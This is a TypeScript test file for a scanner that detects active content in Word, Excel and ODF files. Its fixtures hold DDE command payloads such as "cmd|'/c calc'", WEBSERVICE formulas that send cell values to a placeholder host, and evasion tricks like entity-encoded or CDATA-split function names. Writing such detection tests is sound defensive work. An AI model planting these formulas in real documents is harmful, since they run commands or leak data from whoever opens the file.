import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, it } from "vitest";
import { zipOf } from "#app/demo/files.ts";
import { findInFile } from "#app/platform/active-content/find-in-file.ts";
import { field, odf, word, wordMain } from "../../factories/active-documents.ts";

const spreadsheet = "application/vnd.openxmlformats-officedocument.spreadsheetml";
const dde = `<w:document><w:p>${field(" DDEAUTO cmd a ")}</w:p></w:document>`;

/** A Word document whose text is a part of that name, declared by its name or by how that ends. */
const textAt = (name: string, by: "PartName" | "Extension" = "PartName", text = dde) => {
  const value = by === "PartName" ? `/${name}` : (name.split(".").at(-1) ?? "");
  const element = by === "PartName" ? "Override" : "Default";
  const types = `<Types><${element} ${by}="${value}" ContentType="${wordMain}"/></Types>`;
  return zipOf({ "[Content_Types].xml": types, [name]: text });
};
const sheet = (formula: string, { name = "xl/worksheets/sheet1.xml", element = "f" } = {}) => {
  const type = `${spreadsheet}.worksheet+xml`;
  const cell = `<x:worksheet><x:c><x:${element}>${formula}</x:${element}></x:c></x:worksheet>`;
  const types = `<Types><Override PartName="/${name}" ContentType="${type}"/></Types>`;
  return zipOf({ "[Content_Types].xml": types, [name]: cell });
};
const cell = (formula: string) => odf(`<table:table-cell table:formula="${formula}"/>`);

const documents: [string, string, string | null, Buffer][] = [
  ["a field in a glossary", "word", "dde", word({ "word/glossary/document.xml": dde })],
  ["a text that lies elsewhere", "word", "dde", textAt("doc/main.xml")],
  ["a text that is called a picture", "word", "dde", textAt("word/media/a.png")],
  ["a text by its ending", "word", "dde", textAt("a/b.dat", "Extension")],
  ["a text of capitals", "word", "dde", textAt("Word/Document.XML")],
  ["a web service", "excel", "remote", sheet('_xlfn.WEBSERVICE("http://x/"&amp;A1)')],
  ["a picture from elsewhere", "excel", "remote", sheet('_xlfn.IMAGE("http://x/")')],
  ["letters written as numbers", "excel", "remote", sheet("&#87;EBSERVICE(A1)")],
  ["a formula in pieces", "excel", "remote", sheet("WEB<![CDATA[SERVICE]]>(A1)")],
  ["a program that is asked", "excel", "dde", sheet("cmd|'/c calc'!A1")],
  ["a library that is called", "excel", "macros", sheet('CALL("a","b")')],
  ["a server that is asked", "excel", "macros", sheet('1+RTD("a",,"b")')],
  ["a name that stands for it", "excel", "remote", sheet("WEBSERVICE(A1)", { element: "definedName" })],
  ["a sheet that lies elsewhere", "excel", "remote", sheet("WEBSERVICE(A1)", { name: "a/b.bin" })],
  ["a program that is asked", "ods", "dde", cell("of:=DDE(&quot;soffice&quot;;A1;A2)")],
  ["a web service", "ods", "remote", cell("of:=COM.MICROSOFT.WEBSERVICE(A1)")],
  [
    "a field that only counts",
    "word",
    null,
    textAt("doc/main.xml", "PartName", `<w:p>${field(" PAGE ")}</w:p>`),
  ],
  ["a sum", "excel", null, sheet("SUM(A1:A3)")],
  ["words about it", "excel", null, sheet('"WEBSERVICE(x) and cmd|a!b"')],
  ["a sheet with a bar in its name", "excel", null, sheet("'North|South'!A1")],
  ["functions that end the same", "excel", null, sheet("RECALL(A1)+IMAGES(A2)")],
  ["words about it in a cell", "excel", null, sheet("WEBSERVICE(A1)", { element: "v" })],
  ["a sum", "ods", null, cell("of:=SUM([.A1:.A3])")],
];

it.each(documents)("%s (%s) is %s", async (_what, kind, found, contents) => {
  const folder = mkdtempSync(join(tmpdir(), "noonday-formulas-"));
  try {
    const path = join(folder, "a");
    writeFileSync(path, contents);
    expect(await findInFile(path, kind)).toBe(found);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});
